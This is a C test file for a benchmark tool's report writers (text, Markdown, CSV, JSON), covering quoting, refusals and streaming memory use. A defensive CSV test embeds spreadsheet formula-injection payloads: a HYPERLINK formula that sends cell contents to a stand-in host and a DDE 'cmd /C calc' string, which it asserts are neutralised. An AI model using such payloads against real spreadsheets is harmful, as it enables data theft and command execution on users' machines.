	json_object_set_new(json_object_get(d, "campaign"), "accelerators", json_string("kvm"));
	t = recommend_text(d, 1000);
	assert_lacks(t, "TCG");
	free(t);
	free(s);
	json_decref(d);
}

Test(report_text, a_document_without_rows_says_so)
{
	json_t *d = load("noci");
	char *s;

	json_object_set_new(d, "rows", json_array());
	json_object_set_new(d, "summary", json_null());
	json_object_set_new(d, "advice", json_string("compare with --axis cpus"));
	s = render("text", d);
	assert_has(s, "\nnothing to compare: compare with --axis cpus\n");
	assert_lacks(s, "0 rows");
	assert_lacks(s, "not decided");
	free(s);
	json_decref(d);
}

Test(report_md, tables_in_github_markdown)
{
	json_t *d = load("own"), *r;
	char *s = render("md", d);
	size_t i;

	assert_has(s, "# vtbench compare: guest vs host");
	assert_has(s, "\n> note: guests ran under TCG (software emulation)");
	assert_has(
		s,
		"\n### stream (membw), baseline c1\n\n| metric | unit | c1 (base) | c2 | c3 |\n|:--|:--|--:|--:|--:|\n| copy (+) | MB/s | 20938<br>n=5, cov 0.6% | 18504 (-11.6%)\\* worse confirmed<br>n=5, cov 0.7%, ci -12.5%..-10.8% |");
	assert_has(s, "| timer\\_avg (-) | us |");
	assert_has(s, "| c3 | vm vcpus=2 topology=flat sched=lazy,\"nohz\" | vm | 2-3 |");
	assert_has(s, "- guest levels SMT\\\\x1b\\[31mMC (4 of 5 boots)");
	assert_has(s, "- checked 4 of 5 boots as planned, 1 unexpected-topology, 0 unchecked");
	assert_has(
		s,
		"\n**16 rows: 4 worse (3 confirmed), 1 better (1 confirmed), 7 same, 3 inconclusive, 0 few, 1 missing, 0 error**\n");
	assert_has(
		s,
		"\nRows not decided, and why:\n\n- timer timer\\_avg (us), c2 vs c1: inconclusive:");
	assert_has(s, "ci -76.5%..+246.1%, noisy |");
	json_array_foreach(json_object_get(d, "rows"), i, r)
	{
		char *want = expected_cell(r, true);

		assert_has(s, want);
		free(want);
	}
	free(s);
	json_decref(d);
}

Test(report_md, a_pipe_in_a_label_does_not_break_the_table)
{
	json_t *d = load("noci");
	char *s;

	json_object_set_new(json_array_get(json_object_get(d, "configs"), 0), "label",
			    json_string("vm a|b <x> *y*"));
	s = render("md", d);
	assert_has(s, "| c1 | vm a\\|b \\<x\\> \\*y\\* | vm |");
	free(s);
	json_decref(d);
}

/* ---- CSV ----------------------------------------------------------------- */

struct csv {
	char ***rows; /* rows of NULL-terminated field arrays */
	size_t *nf, n;
};

/* An RFC 4180 reader, enough for the emitter's output: quoted fields with
 * doubled quotes, LF line ends. */
static void csv_parse(const char *s, struct csv *out)
{
	memset(out, 0, sizeof(*out));
	while (*s) {
		char **f = NULL;
		size_t nf = 0;

		for (;;) {
			struct vtb_strbuf sb = VTB_STRBUF_INIT;

			if (*s == '"') {
				for (s++;; s++) {
					cr_assert(*s, "unterminated quoted field");
					if (*s == '"' && s[1] == '"') {
						vtb_strbuf_add(&sb, "\"", 1);
						s++;
					} else if (*s == '"') {
						s++;
						break;
					} else {
						vtb_strbuf_add(&sb, s, 1);
					}
				}
			} else {
				size_t n = strcspn(s, ",\n");

				cr_assert_null(memchr(s, '"', n), "quote in an unquoted field");
				vtb_strbuf_add(&sb, s, n);
				s += n;
			}
			f = realloc(f, (nf + 2) * sizeof(*f));
			f[nf++] = vtb_strdup(vtb_strbuf_str(&sb));
			f[nf] = NULL;
			vtb_strbuf_release(&sb);
			if (*s == ',') {
				s++;
				continue;
			}
			cr_assert_eq(*s, '\n', "a field ends at a comma or a line end");
			s++;
			break;
		}
		out->rows = realloc(out->rows, (out->n + 1) * sizeof(*out->rows));
		out->nf = realloc(out->nf, (out->n + 1) * sizeof(*out->nf));
		out->rows[out->n] = f;
		out->nf[out->n++] = nf;
	}
}

static void csv_free(struct csv *c)
{
	for (size_t i = 0; i < c->n; i++) {
		for (size_t k = 0; k < c->nf[i]; k++)
			free(c->rows[i][k]);
		free(c->rows[i]);
	}
	free(c->rows);
	free(c->nf);
}

static size_t col(const struct csv *c, const char *name)
{
	for (size_t k = 0; k < c->nf[0]; k++)
		if (!strcmp(c->rows[0][k], name))
			return k;
	cr_assert_fail("no column '%s'", name);
	return 0;
}

/* The significant digits of a number as written ("0.0135" has 3). */
static int sig_digits(const char *s)
{
	int n = 0, zeros = 0;
	bool lead = true;

	for (; *s && *s != 'e' && *s != 'E'; s++) {
		if (*s < '0' || *s > '9')
			continue;
		if (lead && *s == '0')
			continue;
		lead = false;
		if (*s == '0') {
			zeros++;
		} else {
			n += zeros + 1;
			zeros = 0;
		}
	}
	return n;
}

/* A field against a JSON value: numbers to 15 significant digits (DBL_DIG:
 * the double's own value, not its last-bit noise) in at most 15 digits,
 * null empty, strings and booleans as written. */
static void assert_field(const char *got, const json_t *v, const char *what)
{
	if (!v || json_is_null(v)) {
		cr_assert_str_empty(got, "%s: null should be empty, got '%s'", what, got);
	} else if (json_is_number(v)) {
		char *end;
		double x = strtod(got, &end);

		cr_assert(*got && !*end, "%s: '%s' is not a number", what, got);
		cr_assert(fabs(x - json_number_value(v)) <= 1e-14 * fabs(json_number_value(v)),
			  "%s: %s reads back as %.17g, not %.17g", what, got, x,
			  json_number_value(v));
		cr_assert(sig_digits(got) <= 15, "%s: '%s' has more than 15 digits", what, got);
	} else if (json_is_boolean(v)) {
		cr_assert_str_eq(got, json_is_true(v) ? "true" : "false", "%s", what);
	} else {
		cr_assert_str_eq(got, json_string_value(v), "%s", what);
	}
}

Test(report_csv, one_line_per_row_reading_back_to_15_digits)
{
	static const char *const docs[] = { "own", "against", "noci" };
	static const char *const sum[] = { "n",	  "mean", "amean", "median", "stddev", "cov",
					   "min", "max",  "p5",	   "p25",    "p75",    "p95" };
	static const char *const top[] = {
		"workload",   "cell",	     "metric",	     "unit",
		"class",      "better",	     "effect",	     "change_pct",
		"ci_low_pct", "ci_high_pct", "test",	     "df",
		"p",	      "q",	     "significant",  "verdict",
		"confirmed",  "possible",    "boots_needed", "noisy",
		"reason"
	};

	for (size_t k = 0; k < 3; k++) {
		json_t *d = load(docs[k]), *r;
		char *s = render("csv", d);
		struct csv c;
		size_t i;

		/* the header first: what a CSV reader takes as the column names */
		cr_assert(!strncmp(s, "schema,campaign,against,boots_total,", 36),
			  "first line: %.40s", s);
		csv_parse(s, &c);
		cr_assert_eq(c.n, json_array_size(json_object_get(d, "rows")) + 1);
		json_array_foreach(json_object_get(d, "rows"), i, r)
		{
			char **f = c.rows[i + 1];

			cr_assert_eq(c.nf[i + 1], c.nf[0], "row %zu has %zu fields, header %zu", i,
				     c.nf[i + 1], c.nf[0]);
			cr_assert_str_eq(f[col(&c, "schema")], "vtbench-compare/2");
			assert_field(f[col(&c, "campaign")],
				     json_object_get(json_object_get(d, "campaign"), "uuid"),
				     "campaign");
			assert_field(f[col(&c, "against")],
				     json_object_get(json_object_get(d, "against"), "uuid"),
				     "against");
			for (size_t t = 0; t < VTB_ARRAY_SIZE(top); t++)
				assert_field(f[col(&c, top[t])], json_object_get(r, top[t]),
					     top[t]);
			for (int side = 0; side < 2; side++) {
				const char *w = side ? "x" : "base";
				json_t *o = json_object_get(r, w);

				for (size_t t = 0; t < VTB_ARRAY_SIZE(sum); t++) {
					char *name = vtb_asprintf("%s_%s", w, sum[t]);

					assert_field(f[col(&c, name)],
						     json_object_get(json_object_get(o, "summary"),
								     sum[t]),
						     name);
					free(name);
				}
				assert_field(f[col(&c, side ? "x_config" : "base_config")],
					     json_object_get(o, "config"), "config");
				assert_field(f[col(&c, side ? "x_campaign" : "base_campaign")],
					     json_object_get(o, "campaign"), "campaign");
			}
		}
		csv_free(&c);
		free(s);
		json_decref(d);
	}
}

Test(report_csv, header_and_rfc4180_quoting_of_a_label_with_a_comma_and_a_quote)
{
	json_t *d = load("own");
	char *s = render("csv", d);

	assert_has(
		s,
		",boots_unexpected_topology,workload,cell,metric,unit,class,better,base_config,base_label,base_campaign,base_n,base_mean,");
	assert_has(
		s,
		",x_p95,effect,change_pct,ci_low_pct,ci_high_pct,test,df,p,q,significant,verdict,confirmed,possible,boots_needed,noisy,reason,kind,failure_campaign,failure_config,failure_label,failure_status,failure_boots,failure_reps,ci_level,row_ci_low_pct,row_ci_high_pct,boots_needed_over,base_set_aside,x_set_aside\n");
	assert_has(
		s,
		",77aa88bb99cc00dd,\"vm vcpus=2 topology=flat sched=lazy,\"\"nohz\"\"\",5f0c2a9e-");
	/* the missing row: no change, no test, and its reason */
	assert_has(
		s,
		",ratio of means,,,,,,,,false,missing,false,false,,false,'vm vcpus=4 topology=mirror pinning=strict' failed in all 5 boots: hackbench: cannot create 160 processes,verdict,,,,,,,,,,,,\n");
	assert_has(s, ",true,worse,true,false,,false,,verdict,,,,,,,,,,,,\n");
	assert_has(s, ",false,same,false,false,,false,,verdict,,,,,,,,,,,,\n");
	free(s);
	json_decref(d);
}

/* Metric and unit names come from the guest: a spreadsheet must not run
 * them.  Fields starting with = + - @ get a leading ' and quotes (OWASP);
 * tab and CR at the start are escaped anyway. */
Test(report_csv, guest_names_that_look_like_formulas_are_neutralised)
{
	static const char *const evil[] = {
		"=HYPERLINK(\"http://x/?\"&A1,\"hi\")",
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(A1)",
		"\tx",
		"\rx",
	};
	static const char *const want[] = {
		",\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"hi\"\")\",",
		",\"'+1+cmd|' /C calc'!A0\",",
		",\"'-2+3\",",
		",\"'@SUM(A1)\",",
		",\\tx,",
		",\\rx,",
	};
	json_t *d = load("own");
	json_t *row = json_array_get(json_object_get(d, "rows"), 0);

	for (size_t i = 0; i < VTB_ARRAY_SIZE(evil); i++) {
		char *s;
		struct csv c;

		json_object_set_new(row, "metric", json_string(evil[i]));
		json_object_set_new(row, "unit", json_string("=1+1"));
		s = render("csv", d);
		assert_has(s, want[i]);
		assert_has(s, ",\"'=1+1\",");
		csv_parse(s, &c);
		for (size_t r = 0; r < c.n; r++)
			for (size_t f = 0; f < c.nf[r]; f++)
				cr_assert(!strchr("=+@", c.rows[r][f][0]) || !c.rows[r][f][0],
					  "field '%s' of line %zu starts a formula", c.rows[r][f],
					  r + 1);
		csv_free(&c);
		free(s);
	}
	json_decref(d);
}

/* A failure of the document's campaign or of the one compared against */
static json_t *failure(const char *config, const char *cell, const char *status, int boots,
		       const char *reason)
{
	json_t *reps = json_array();

	for (int i = 0; i < boots; i++)
		json_array_append_new(reps, json_integer(i + 1));
	return json_pack("{s:s, s:s, s:o, s:s, s:i, s:o, s:s}", "config", config, "label",
			 "vm, \"x\"", "cell", cell ? json_string(cell) : json_null(), "status",
			 status, "boots", boots, "reps", reps, "reason", reason);
}

/* Issue 17: what failed comes first in every format.  In CSV a line per
 * failure (kind failure) before the verdict rows (kind verdict), its cell
 * and reason in the columns of those names, its reason defused like any
 * guest text. */
Test(report_csv, failures_are_lines_of_their_own_before_the_verdicts)
{
	json_t *d = load("against");
	json_t *camp = json_object_get(d, "campaign"), *ag = json_object_get(d, "against");
	size_t nrows = json_array_size(json_object_get(d, "rows")), nf;
	char *s;
	struct csv c;

	cr_assert(json_is_object(ag), "the fixture compares against a campaign");
	json_object_set_new(camp, "failures",
			    json_pack("[o, o]",
				      failure("c1", "wakeup", "failed", 1,
					      "=HYPERLINK(\"http://x/\")"),
				      failure("c2", NULL, "timeout", 3, "no record")));
	json_object_set_new(ag, "failures",
			    json_pack("[o]",
				      failure("c3", NULL, "unexpected-topology", 2, "@SUM(A1)")));
	s = render("csv", d);
	csv_parse(s, &c);
	nf = 3;
	cr_assert_eq(c.n, 1 + nf + nrows);
	for (size_t i = 1; i < c.n; i++) {
		cr_assert_eq(c.nf[i], c.nf[0], "line %zu has %zu fields, header %zu", i + 1,
			     c.nf[i], c.nf[0]);
		cr_assert_str_eq(c.rows[i][col(&c, "kind")], i <= nf ? "failure" : "verdict");
		cr_assert_str_eq(c.rows[i][col(&c, "schema")], "vtbench-compare/2");
		assert_field(c.rows[i][col(&c, "campaign")], json_object_get(camp, "uuid"),
			     "campaign");
		assert_field(c.rows[i][col(&c, "boots_total")],
			     json_object_get(json_object_get(camp, "boots"), "total"), "boots");
	}
	cr_assert_str_eq(c.rows[1][col(&c, "cell")], "wakeup");
	cr_assert_str_eq(c.rows[1][col(&c, "reason")], "'=HYPERLINK(\"http://x/\")");
	cr_assert_str_eq(c.rows[1][col(&c, "failure_status")], "failed");
	cr_assert_str_eq(c.rows[1][col(&c, "failure_config")], "c1");
	cr_assert_str_eq(c.rows[1][col(&c, "failure_label")], "vm, \"x\"");
	cr_assert_str_eq(c.rows[1][col(&c, "failure_boots")], "1");
	cr_assert_str_eq(c.rows[1][col(&c, "failure_reps")], "1");
	cr_assert_str_empty(c.rows[1][col(&c, "workload")]);
	cr_assert_str_empty(c.rows[1][col(&c, "verdict")]);
	cr_assert_str_empty(c.rows[1][col(&c, "x_config")]);
	assert_field(c.rows[1][col(&c, "failure_campaign")], json_object_get(camp, "uuid"),
		     "failure_campaign");
	cr_assert_str_empty(c.rows[2][col(&c, "cell")], "a whole boot has no cell");
	cr_assert_str_eq(c.rows[2][col(&c, "failure_status")], "timeout");
	cr_assert_str_eq(c.rows[2][col(&c, "failure_reps")], "1,2,3");
	cr_assert_str_eq(c.rows[2][col(&c, "reason")], "no record");
	/* the campaign compared against: its own failures, named by its uuid */
	assert_field(c.rows[3][col(&c, "failure_campaign")], json_object_get(ag, "uuid"),
		     "failure_campaign");
	cr_assert_str_eq(c.rows[3][col(&c, "failure_status")], "unexpected-topology");
	cr_assert_str_eq(c.rows[3][col(&c, "reason")], "'@SUM(A1)");
	assert_has(s, ",\"'=HYPERLINK(\"\"http://x/\"\")\",failure,");
	for (size_t r = 0; r < c.n; r++)
		for (size_t f = 0; f < c.nf[r]; f++)
			cr_assert(!strchr("=+@", c.rows[r][f][0]) || !c.rows[r][f][0],
				  "field '%s' of line %zu starts a formula", c.rows[r][f], r + 1);
	csv_free(&c);
	free(s);
	json_decref(d);
}

Test(report_csv, a_row_without_an_interval_has_empty_fields)
{
	json_t *d = load("noci");
	char *s = render("csv", d);
	struct csv c;

	csv_parse(s, &c);
	cr_assert_eq(c.n, 5);
	cr_assert_str_eq(c.rows[4][col(&c, "verdict")], "few");
	cr_assert_str_empty(c.rows[4][col(&c, "ci_low_pct")]);
	cr_assert_str_empty(c.rows[4][col(&c, "ci_high_pct")]);
	cr_assert_str_empty(c.rows[4][col(&c, "p")]);
	cr_assert_str_eq(c.rows[3][col(&c, "boots_needed")], "6");
	csv_free(&c);
	free(s);
	json_decref(d);
}

/* ---- refusals -------------------------------------------------------------- */

static void assert_refused(json_t *d, const char *msg)
{
	static const char *const fns[] = { "text", "md", "csv" };

	for (size_t f = 0; f < 3; f++) {
		int ret;
		char *s = render_ret(fns[f], d, &ret);

		cr_assert_eq(ret, -1, "a malformed document is refused");
		cr_assert_str_empty(s, "nothing is written for a malformed document");
		cr_assert_not_null(strstr(vtb_errmsg(), msg), "message '%s' lacks '%s'",
				   vtb_errmsg(), msg);
		free(s);
	}
}

Test(report, malformed_documents_are_refused_before_writing)
{
	json_t *d = load("noci"), *r0;

	json_object_set_new(d, "schema", json_string("vtbench-compare/1"));
	assert_refused(d, "schema 'vtbench-compare/1'");
	json_object_set_new(d, "schema", json_string("vtbench-compare/2"));

	r0 = json_array_get(json_object_get(d, "rows"), 0);
	json_object_set_new(json_object_get(r0, "x"), "config", json_string("ffffffffffffffff"));
	assert_refused(d, "configuration 'ffffffffffffffff' of 'x' is not in configs");
	json_object_set_new(json_object_get(r0, "x"), "config", json_string("5555666677778888"));

	json_object_set_new(r0, "verdict", json_string("meh"));
	assert_refused(d, "unknown verdict 'meh'");
	json_object_set_new(r0, "verdict", json_string("better"));

	json_object_set_new(r0, "change_pct", json_string("12"));
	assert_refused(d, "must be numbers or null");
	json_object_set_new(r0, "change_pct", json_real(-9.7));

	json_object_set_new(r0, "better", json_null());
	assert_refused(d, "metric, unit and better must be strings");
	json_object_set_new(r0, "better", json_string("lower"));

	json_array_append_new(json_object_get(d, "rows"), json_deep_copy(r0));
	assert_refused(d, "are both messaging messaging seconds");
	json_array_remove(json_object_get(d, "rows"), 4);

	json_object_set_new(d, "rows", json_object());
	assert_refused(d, "rows are required");
	json_decref(d);

	assert_refused(json_null(), "not a vtbench-compare/2 document");
}

Test(report, a_write_error_is_reported)
{
	json_t *d = load("own");
	static const char *const fns[] = { "text", "md", "csv" };

	for (size_t i = 0; i < 3; i++) {
		FILE *f = fopen("/dev/full", "w");

		cr_assert_not_null(f);
		cr_assert_eq(vtb_report_find(fns[i])->render(d, NULL, f), -1);
		cr_assert_not_null(strstr(vtb_errmsg(), "cannot write the report"), "%s",
				   vtb_errmsg());
		fclose(f);
	}
	json_decref(d);
}

/* ---- the registry (reports/registry.c) ------------------------------------- */

Test(report_registry, five_formats_in_help_order_and_the_check_passes)
{
	static const char *const want[] = { "text", "md", "html", "json", "csv", NULL };
	const char *const *names = vtb_report_names();
	size_t i;

	cr_assert_eq(vtb_reports_check(), 0, "%s", vtb_errmsg());
	for (i = 0; want[i]; i++) {
		cr_assert_not_null(vtb_reports[i]);
		cr_expect_str_eq(vtb_reports[i]->name, want[i]);
		cr_expect_str_eq(names[i], want[i]);
		cr_expect_eq(vtb_report_find(want[i]), vtb_reports[i]);
		cr_expect(vtb_reports[i]->summary && *vtb_reports[i]->summary);
		cr_expect(vtb_reports[i]->media_type && strchr(vtb_reports[i]->media_type, '/'));
	}
	cr_expect_null(vtb_reports[i]);
	cr_expect_null(names[i]);
	cr_expect_null(vtb_report_find("jsno"));
	cr_expect_null(vtb_report_find("TEXT"));
	cr_expect_null(vtb_report_find(NULL));
}

Test(report_registry, extensions_pick_the_format)
{
	static const char *const cases[][2] = {
		{ "r.txt", "text" },	{ "r.text", "text" },	{ "a/b.md", "md" },
		{ "r.markdown", "md" }, { "R.HTML", "html" },	{ "r.htm", "html" },
		{ "r.json", "json" },	{ "x.tar.csv", "csv" }, { "./dir.d/r.Csv", "csv" },
	};

	for (size_t i = 0; i < VTB_ARRAY_SIZE(cases); i++) {
		const struct vtb_report_ops *r = vtb_report_for_path(cases[i][0]);

		cr_assert_not_null(r, "%s", cases[i][0]);
		cr_expect_str_eq(r->name, cases[i][1], "%s", cases[i][0]);
	}
	cr_expect_null(vtb_report_for_path("report"));
	cr_expect_null(vtb_report_for_path("r.pdf"));
	cr_expect_null(vtb_report_for_path("dir.html/report"));
	cr_expect_null(vtb_report_for_path("r.html.bak"));
}

Test(report_registry, every_format_renders_a_document_and_refuses_others)
{
	json_t *doc = load("own"), *other = json_pack("{s:s}", "schema", "vtbench-compare/1");

	cr_assert_not_null(other);
	for (size_t i = 0; vtb_reports[i]; i++) {
		int ret;
		char *s = render_opts(vtb_reports[i]->name, doc, NULL, &ret);

		cr_expect_eq(ret, 0, "%s: %s", vtb_reports[i]->name, vtb_errmsg());
		cr_expect(s && strlen(s) > 100, "%s wrote little", vtb_reports[i]->name);
		cr_expect(s && s[strlen(s) - 1] == '\n', "%s: no final newline",
			  vtb_reports[i]->name);
		free(s);
		s = render_opts(vtb_reports[i]->name, other, NULL, &ret);
		cr_expect_eq(ret, -1, "%s took a vtbench-compare/1 document", vtb_reports[i]->name);
		free(s);
	}
	json_decref(other);
	json_decref(doc);
}

/* The JSON format is the document: keys sorted, indented by 2, reals
 * with 12 significant digits, a final newline. */
Test(report_registry, json_is_the_document_itself)
{
	json_t *doc = load("against");
	int ret;
	char *s = render_opts("json", doc, NULL, &ret);
	char *want = json_dumps(doc, JSON_INDENT(2) | JSON_SORT_KEYS | JSON_REAL_PRECISION(12));
	char *want_nl = vtb_asprintf("%s\n", want);

	cr_assert_eq(ret, 0, "%s", vtb_errmsg());
	cr_expect_str_eq(s, want_nl);
	free(want_nl);
	free(want);
	json_decref(doc);
	free(s);
}

/* Text folds to the width of its options (a word or figure wider than it
 * aside: the fixture's keys are); no options, VTB_REPORT_COLUMNS. */
Test(report_registry, text_follows_the_columns_option)
{
	json_t *doc = load("own");
	struct vtb_report_opts narrow = { .columns = 60 }, none = { 0 };
	size_t widest[3] = { 0 };
	char *s[3];
	int ret;

	s[0] = render_opts("text", doc, &narrow, &ret);
	s[1] = render_opts("text", doc, &none, &ret);
	s[2] = render_opts("text", doc, NULL, &ret);
	for (int k = 0; k < 3; k++) {
		size_t w = 0;

		for (const char *p = s[k]; *p; p++) {
			w = *p == '\n' ? 0 : w + (((unsigned char)*p & 0xc0) != 0x80);
			widest[k] = w > widest[k] ? w : widest[k];
		}
	}
	cr_expect_lt(widest[0], widest[1]);
	cr_expect_gt(widest[1], 60);
	cr_expect_leq(widest[1], VTB_REPORT_COLUMNS);
	cr_expect_str_eq(s[1], s[2]);
	for (int k = 0; k < 3; k++)
		free(s[k]);
	json_decref(doc);
}

/* One form of a percentage for text, Markdown and HTML: one decimal below
 * a million percent, three significant digits in exponent form from there
 * (never clamped), "-" for what is not a number; 11 characters at most. */
Test(report_pct, one_decimal_then_exponent_form_never_clamped)
{
	static const struct {
		double v;
		const char *s;
	} t[] = {
		{ 0, "+0.0%" },
		{ 12.34, "+12.3%" },
		{ -100, "-100.0%" },
		{ 9264, "+9264.0%" },
		{ 999999.9, "+999999.9%" },
		{ 1e6, "+1e+06%" },
		{ 1.47e15, "+1.47e+15%" },
		{ -1.23e308, "-1.23e+308%" },
		{ NAN, "-" },
		{ INFINITY, "-" },
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct vtb_pct p = vtb_report_pct(t[i].v);

		cr_expect_str_eq(p.s, t[i].s, "%g", t[i].v);
		cr_expect_leq(strlen(p.s), 11);
	}
}

/* ---- documents made as they are read (vtb_report_doc) ---- */

/* Rows and series made one at a time: the elements of a whole document
 * (@whole), or copies of one row (@tmpl) each of a metric of its own;
 * @calls counts the rows made. */
struct made {
	const json_t *whole, *tmpl;
	size_t calls;
};

static json_t *made_row(const void *src, size_t i)
{
	struct made *m = (struct made *)src;
	json_t *r;
	char metric[32];

	m->calls++;
	if (m->whole)
		return json_incref(json_array_get(json_object_get(m->whole, "rows"), i));
	r = json_deep_copy(m->tmpl);
	snprintf(metric, sizeof(metric), "metric%zu", i);
	cr_assert_not_null(r);
	cr_assert_eq(json_object_set_new(r, "metric", json_string(metric)), 0);
	return r;
}

static json_t *made_series(const void *src, size_t i)
{
	const struct made *m = src;

	return json_incref(json_array_get(json_object_get(m->whole, "series"), i));
}

/* @doc's head: every member but rows and series (a new reference). */
static json_t *head_of(const json_t *doc)
{
	json_t *h = json_copy((json_t *)doc);

	cr_assert_not_null(h);
	json_object_del(h, "rows");
	json_object_del(h, "series");
	return h;
}

Test(report, a_document_made_row_by_row_writes_the_same_bytes_in_every_format)
{
	static const char *const docs[] = { "own", "against" };

	for (size_t k = 0; k < VTB_ARRAY_SIZE(docs); k++) {
		json_t *d = load(docs[k]), *h = head_of(d);

		for (size_t i = 0; vtb_reports[i]; i++) {
			struct made m = { .whole = d };
			struct vtb_report_doc rd = {
				.head = h,
				.nrows = json_array_size(json_object_get(d, "rows")),
				.nseries = json_array_size(json_object_get(d, "series")),
				.row = made_row,
				.series = json_object_get(d, "series") ? made_series : NULL,
				.src = &m,
				.rows_ok = true,
			};
			char *want = NULL, *got = NULL;
			size_t wl = 0, gl = 0;
			FILE *f = open_memstream(&want, &wl), *g = open_memstream(&got, &gl);

			cr_assert(f && g);
			cr_assert_eq(vtb_reports[i]->render(d, NULL, f), 0, "%s", vtb_errmsg());
			cr_assert_eq(vtb_reports[i]->render_doc(&rd, NULL, g), 0, "%s", vtb_errmsg());
			cr_assert_eq(fclose(f), 0);
			cr_assert_eq(fclose(g), 0);
			cr_assert_gt(wl, 0);
			cr_assert(wl == gl && !memcmp(want, got, wl),
				  "%s of %s: %zu bytes made row by row, %zu whole", vtb_reports[i]->name,
				  docs[k], gl, wl);
			/* each row made once */
			if (strcmp(vtb_reports[i]->name, "html"))
				cr_assert_eq(m.calls, rd.nrows, "%s: %zu rows made for %zu",
					     vtb_reports[i]->name, m.calls, rd.nrows);
			free(want);
			free(got);
		}
		json_decref(h);
		json_decref(d);
	}
}

/* Bytes jansson holds (every allocation of this test's process goes
 * through these once they are set, before any JSON exists). */
static size_t live_bytes, peak_bytes;

static void *counting_malloc(size_t n)
{
	char *p = malloc(n + sizeof(max_align_t));

	if (!p)
		return NULL;
	memcpy(p, &n, sizeof(n));
	live_bytes += n;
	if (live_bytes > peak_bytes)
		peak_bytes = live_bytes;
	return p + sizeof(max_align_t);
}

static void counting_free(void *q)
{
	char *p = q;
	size_t n;

	if (!p)
		return;
	p -= sizeof(max_align_t);
	memcpy(&n, p, sizeof(n));
	live_bytes -= n;
	free(p);
}

/* The most bytes of JSON format @fmt holds at once beyond @head while
 * writing @nrows copies of @tmpl; *@calls: the rows it had made. */
static size_t json_peak(const char *fmt, const json_t *head, const json_t *tmpl, size_t nrows,
			size_t *calls)
{
	struct made m = { .tmpl = tmpl };
	struct vtb_report_doc rd = { .head = head,
				     .nrows = nrows,
				     .row = made_row,
				     .series = NULL,
				     .src = &m,
				     .rows_ok = true };
	FILE *f = fopen("/dev/null", "w");
	size_t before = live_bytes;
	int r;

	cr_assert_not_null(f);
	peak_bytes = live_bytes;
	r = vtb_report_find(fmt)->render_doc(&rd, NULL, f);
	cr_assert_eq(r, 0, "%s: %s", fmt, vtb_errmsg());
	cr_assert_eq(fclose(f), 0);
	cr_assert_eq(live_bytes, before, "%s left %zu bytes of JSON behind", fmt,
		     live_bytes - before);
	*calls = m.calls;
	return peak_bytes - before;
}

/*
 * The streaming property, without a clock: text, Markdown, CSV and JSON
 * hold at most a row's JSON at a time, so the most JSON they hold while
 * writing 400 rows is what they hold for 100 (a writer that built the
 * whole document, or kept each row's JSON, holds four times as much).
 */
Test(report, the_writers_hold_one_row_of_json_at_a_time)
{
	static const char *const fmts[] = { "text", "md", "csv", "json" };
	json_t *d, *h, *tmpl;

	json_set_alloc_funcs(counting_malloc, counting_free);
	d = load("own");
	h = head_of(d);
	tmpl = json_deep_copy(json_array_get(json_object_get(d, "rows"), 0));
	cr_assert_not_null(tmpl);
	/* boots set aside are kept for the list after the tables: none here */
	json_object_set_new(json_object_get(tmpl, "base"), "set_aside", json_array());
	json_object_set_new(json_object_get(tmpl, "x"), "set_aside", json_array());
	for (size_t i = 0; i < VTB_ARRAY_SIZE(fmts); i++) {
		size_t c1, c4, p1 = json_peak(fmts[i], h, tmpl, 100, &c1),
			       p4 = json_peak(fmts[i], h, tmpl, 400, &c4);
		cr_assert_eq(c1, 100, "%s made %zu rows for 100", fmts[i], c1);
		cr_assert_eq(c4, 400, "%s made %zu rows for 400", fmts[i], c4);
		cr_assert_gt(p1, 0);
		cr_assert(p4 < p1 + p1 / 2,
			  "%s held %zu bytes of JSON at once for 400 rows, %zu for 100", fmts[i], p4,
			  p1);
	}
	json_decref(tmpl);
	json_decref(h);
	json_decref(d);
}
